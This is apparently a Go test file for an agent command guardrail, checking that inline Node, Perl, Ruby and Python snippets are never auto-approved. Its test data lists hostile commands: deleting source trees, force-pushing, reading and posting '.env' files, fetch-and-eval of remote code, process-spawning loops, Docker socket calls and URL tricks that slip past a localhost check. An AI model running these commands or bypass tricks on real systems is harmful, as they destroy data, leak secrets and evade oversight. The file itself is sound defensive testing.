package gates

import "testing"

// TestInlineCodeStarts holds that inline JavaScript, Perl and Ruby that starts programs asks.
func TestInlineCodeStarts(t *testing.T) {
	for _, c := range []struct {
		lang string
		asks []string
	}{
		{"node", []string{
			`require("child_process").execSync("rm -rf src")`, `require("child_process").execSync("git push -f")`, `require("child_process").execSync("git " + process.argv[1])`, `const {execSync} = require("child_process"); const e = execSync; e("git status")`,
			`const {execSync} = require("child_process"); ["rm x"].map(execSync); execSync("ls")`, `const cp = require("child_process"); cp.execSync("ls"); const q = cp; q.exec("id"); /a/.exec("")`, `var cp = require("child_process"); cp.execSync("ls"); this.cp.exec("id"); /a/.exec("")`,
			`const fs = require("fs"); fs.writeFileSync("x.sh", process.argv[1]); require("child_process").execSync("sh x.sh")`, `const p = require("child_process").spawn("sh"); p.stdin.write("id")`, `require("child_process").execSync("ls", {cwd: process.argv[1]})`,
			`require("child_process").execSync("ls", {shell: "/tmp/x"})`, `require("child_process").execSync("ls", {env: {...process.env, PATH: "."}})`, `require("child_process").exec("ls", (e, o) => eval(o))`, `const {execSync: a, fork: b} = require("child_process"); a("ls"); b("x.js")`,
			`const {execSync} = require("child_process"); ((execSync) => execSync("ls"))(eval)`, `while (true) require("child_process").spawn("sleep", ["100"])`, `setInterval(() => require("child_process").spawn("yes"), 0)`, `require("child_process").execSync("cat .env")`,
			"`${require(\"child_process\").execSync(\"rm x\")}`", `const fs = require("fs"); fs.writeFileSync(require("child_process").execSync("cat name").toString(), "x")`, `import {execSync, fork} from "child_process"; execSync("ls")`,
		}},
		{"perl", []string{
			`system("rm -rf src")`, `system("ls $ARGV[0]")`, "print `rm x`", `$ENV{PATH} = "."; system("ls")`, `system "ls", @ARGV`, `system "ls" . $x`, `system {"sh"} "ls"`, "eval `cat x`", "print \"@{[`rm x`]}\"", "@ARGV = `ls`; while (<>) {print}", "s/x/`rm x`/e",
			"print q(`ls`); unlink \"a\"; print q(`)", `while (1) { system("sleep 100 &") }`, "print qx(ls @ARGV)", `sub f { system(@_) } f("rm x")`, `exec "sudo reboot"`,
		}},
		{"ruby", []string{
			`system("rm -rf src")`, "puts `rm x`", `system("ls #{ARGV[0]}")`, `system "ls" + ARGV[0]`, `system "ls", *ARGV`, `def system(x) = eval(x); system("ls")`, "File.write(`ls`, \"x\")", "puts \"`\"; system(\"ls\"); eval \"`\"", `system({"PATH" => "."}, "ls")`,
			`ENV["PATH"] = "."; system("ls")`, `Dir.chdir("/etc"); system("ls")`, "eval(`cat x`)", `IO.popen("sh", "w") { |io| io.puts "rm x" }`, "puts \"#{`rm x`}\"", `loop { system("yes &") }`, `require "open3"; Open3.pipeline("ls", "sh"); Open3.capture2("ls")`,
		}},
	} {
		for _, code := range c.asks {
			if d := decideCode(c.lang, code); d.Disposition == Approved {
				t.Errorf("%s passes: %s", c.lang, code)
			}
		}
	}
}

// TestInlineCodeInPieces holds that code that is given in pieces, or changes its files, starts
// nothing unasked: the next piece may go on with a call.
func TestInlineCodeInPieces(t *testing.T) {
	for _, line := range []string{`perl -e 'system "ls"' -e '. $x'`, `perl -ne 'system "ls"' -e '. $x' a`, `ruby -e 'system "ls"' -e '.concat(ARGV[0])'`, `perl -pi -e 's/a/b/; system("sh x.sh")' x.sh`, `ruby -i -pe 'system("sh x.sh")' x.sh`} {
		var g Guardrail
		c := ShellContext(line, State{Cwd: "/w", Roots: []string{"/w"}, Home: "/home/me"})
		if g.Decide(&c).Disposition == Approved {
			t.Errorf("passes: %s", line)
		}
	}
}

// TestInlineCodeAsksThisMachine holds that inline code which asks a server of this machine is judged
// as curl that does, and that it asks nobody else.
func TestInlineCodeAsksThisMachine(t *testing.T) {
	for _, c := range []struct {
		lang string
		asks []string
	}{
		{"python", []string{
			`import urllib.request; print(urllib.request.urlopen("http://h.example/").read())`, `import urllib.request, sys; urllib.request.urlopen("http://localhost" + sys.argv[1])`, `import urllib.request; urllib.request.urlopen("http://localhost@h.example/")`,
			`import urllib.request; urllib.request.urlopen("http://localhost:80@h.example/")`, `import urllib.request; urllib.request.urlopen("http://localhost.h.example/")`, `import urllib.request; urllib.request.urlopen("file:///etc/passwd")`,
			`import urllib.request; exec(urllib.request.urlopen("http://localhost:8000/").read())`, `import urllib.request; urllib.request.urlretrieve("http://localhost:8000/", "/etc/x")`,
			"import urllib.request\nfull_url = 1\nr = urllib.request.Request('http://localhost:8000/')\nr.full_url = 'http://h.example'\nurllib.request.urlopen(r)", "import urllib.request\nr = urllib.request.Request('http://localhost:8000/')\nr.set_proxy('h.example:80', 'http')\nurllib.request.urlopen(r)",
			`import os, urllib.request; os.environ["http_proxy"] = "http://h.example"; urllib.request.urlopen("http://localhost:8000/")`, `import requests; requests.get("http://localhost:8000/", proxies={"http": "http://h.example"})`, `import requests; requests.Session().post("http://h.example/")`,
			`import requests; requests.get("http://localhost:8000"); requests.post("http://h.example", data=open("a.txt").read())`, `import requests; requests.get("http://localhost:8000"); f = requests.post; f("http://h.example")`, `from requests import get, Session; get("http://localhost:8000"); Session().get("http://h.example")`,
			`import requests as r; r.get("http://localhost:8000"); s = r; s.Session().get("http://h.example")`, `import requests; requests.get("http://localhost:2375/containers/json")`, `import requests; requests.post("http://localhost:8000/", data=open(".env").read())`, `import requests; requests.post("http://localhost:9200/_x", json={})`,
			`import requests, subprocess; open("x.sh", "w").write(requests.get("http://localhost:8000/").text); subprocess.run(["sh", "x.sh"])`, `import requests, shutil; requests.get("http://localhost:8000/"); shutil.rmtree("/a")`,
		}},
		{"node", []string{
			`fetch("http://h.example/").then(r => r.text())`, `fetch("http://localhost" + process.argv[1])`, `fetch("http://localhost:3000" + process.argv[1])`, "fetch(`http://localhost:${process.argv[1]}/`)", `fetch("http://localhost:3000/").then(r => r.text()).then(eval)`,
			`fetch("http://localhost:3000/", {dispatcher: x})`, `fetch("http://localhost:3000/", o)`, `fetch("http://localhost:3000/", {...o})`, `fetch("http://localhost:3000/", {method: "POST", body: require("fs").readFileSync(".env")})`, `const f = fetch; f("http://localhost:3000/")`,
			`["http://h.example"].map(fetch); fetch("http://localhost:3000/")`, `fetch("http://localhost:2375/containers/json")`, `fetch("http://localhost:3000/").then(r => r.text()).then(t => require("fs").writeFileSync("/etc/x", t))`, `fetch("http://localhost:9200/_x", {method: "DELETE"})`,
		}},
		{"ruby", []string{
			`require "net/http"; puts Net::HTTP.get(URI("http://h.example/"))`, `require "net/http"; puts Net::HTTP.get(URI(ARGV[0]))`, `require "net/http"; Net::HTTP.start("h.example"); Net::HTTP.get(URI("http://localhost/"))`, `require "open-uri"; eval URI.open("http://localhost:3000/").read`,
			`require "open-uri"; puts URI.open("http://localhost:3000/").read; open("|rm x")`, `require "net/http"; Net::HTTP.get(URI("http://localhost:2375/containers/json"))`, `require "net/http"; Net::HTTP.get(URI("http://localhost#{ARGV[0]}/"))`,
		}},
	} {
		for _, code := range c.asks {
			if d := decideCode(c.lang, code); d.Disposition == Approved {
				t.Errorf("%s passes: %s", c.lang, code)
			}
		}
	}
}
